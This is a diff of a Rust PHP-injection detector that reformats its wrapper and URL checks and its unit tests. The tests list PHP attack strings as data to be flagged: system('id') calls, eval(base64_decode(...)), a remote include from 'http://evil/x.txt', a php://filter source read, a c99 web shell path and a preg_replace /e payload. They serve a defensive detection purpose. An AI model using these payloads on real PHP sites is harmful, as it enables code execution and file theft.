@@ -391,7 +391,9 @@ fn paren_callee(t: &[u8], open: usize) -> bool {
 fn wrapper_before(t: &[u8], colon: usize) -> bool {
     ["php", "expect", "phar", "data", "zlib", "zip"].iter().any(|w| {
         let w = w.as_bytes();
-        colon >= w.len() && t[colon - w.len()..colon].eq_ignore_ascii_case(w) && (colon == w.len() || !is_ident(t[colon - w.len() - 1]) || w == b"zlib")
+        colon >= w.len()
+            && t[colon - w.len()..colon].eq_ignore_ascii_case(w)
+            && (colon == w.len() || !is_ident(t[colon - w.len() - 1]) || w == b"zlib")
     })
 }
 
@@ -528,7 +530,9 @@ fn preg_e(t: &[u8], quote_at: usize) -> bool {
 
 /// A remote or wrapper URL at `i`.
 fn url_at(t: &[u8], i: usize) -> bool {
-    ["http://", "https://", "ftp://", "php://", "data:", "expect://", "zip://", "phar://", "\\\\"].iter().any(|s| starts_with_ci(t, i, s.as_bytes()))
+    ["http://", "https://", "ftp://", "php://", "data:", "expect://", "zip://", "phar://", "\\\\"]
+        .iter()
+        .any(|s| starts_with_ci(t, i, s.as_bytes()))
 }
 
 #[cfg(test)]
@@ -543,11 +547,26 @@ mod tests {
     #[test]
     fn calls_and_forms() {
         for text in [
-            "system('id')", "file_exists (\"/etc/passwd\")", "posix_getpwuid(posix_geteuid())", "system(id)",
-            "(system)(ls)", "\"sys\".\"tem\"('id')", "$f('id')", "$_GET[0]($_GET[1])", "<?php echo 1; ?>",
-            "<?=`id`?>", "phpinfo()", "eval(base64_decode('ZWNobyAx'))", "include('http://evil/x.txt')",
-            "php://filter/convert.base64-encode/resource=index.php", "/uploads/c99.php", "'.passthru('ls').'",
-            "system/**/('id')", "preg_replace('/.*/e','system(\"id\")','')", "echo `id`;", "${'_GET'}[a]($_GET[b])",
+            "system('id')",
+            "file_exists (\"/etc/passwd\")",
+            "posix_getpwuid(posix_geteuid())",
+            "system(id)",
+            "(system)(ls)",
+            "\"sys\".\"tem\"('id')",
+            "$f('id')",
+            "$_GET[0]($_GET[1])",
+            "<?php echo 1; ?>",
+            "<?=`id`?>",
+            "phpinfo()",
+            "eval(base64_decode('ZWNobyAx'))",
+            "include('http://evil/x.txt')",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "/uploads/c99.php",
+            "'.passthru('ls').'",
+            "system/**/('id')",
+            "preg_replace('/.*/e','system(\"id\")','')",
+            "echo `id`;",
+            "${'_GET'}[a]($_GET[b])",
         ] {
             assert!(hit(text).is_some(), "{text}");
         }
@@ -556,10 +575,19 @@ mod tests {
     #[test]
     fn prose_passes() {
         for text in [
-            "system (noun): a set of things working together", "the exec(s) will meet", "system requirements",
-            "the system(s) under test", "regex.exec(str)", "$this->exec('x')", "$t('home.title')",
-            "$(document).ready(fn)", "please include http://example.com in the mail", "O'Brien's \"best\" (really)",
-            "price $5 (USD)", "shell scripts", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+            "system (noun): a set of things working together",
+            "the exec(s) will meet",
+            "system requirements",
+            "the system(s) under test",
+            "regex.exec(str)",
+            "$this->exec('x')",
+            "$t('home.title')",
+            "$(document).ready(fn)",
+            "please include http://example.com in the mail",
+            "O'Brien's \"best\" (really)",
+            "price $5 (USD)",
+            "shell scripts",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
         ] {
             assert_eq!(hit(text), None, "{text}");
         }
